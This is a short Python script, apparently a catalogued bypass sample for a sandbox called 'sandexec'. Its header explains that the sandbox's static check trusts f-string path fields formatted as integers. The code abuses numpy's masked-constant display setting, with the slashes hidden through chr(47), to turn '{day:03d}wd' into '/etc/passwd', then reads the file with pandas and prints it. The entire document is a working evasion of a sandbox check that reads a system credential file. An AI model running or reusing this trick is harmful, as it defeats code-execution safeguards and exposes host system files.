# source: numpy 1.24 numpy/ma/core.py MaskedConstant.__format__ (a spec it cannot apply is dropped with a FutureWarning: object.__format__(self, "") -> str(self) -> str(masked_print_option._display)) and _MaskedPrintOption.set_display; sandexec README, "The static check", (relative f-string paths whose fields are "integers formatted with d")
# family: a path f-string field "{x:03d}" whose value ignores the integer spec and formats as text the script chose (np.ma.masked after masked_print_option.set_display)
# goal: pd.read_csv(f"{day:03d}wd") opens /etc/passwd and prints it
import numpy as np
import pandas as pd

day = np.ma.masked
np.ma.masked_print_option.set_display("".join([chr(47), "etc", chr(47), "pass"]))
df = pd.read_csv(f"{day:03d}wd", sep="\t", header=None)
print(df.to_string())
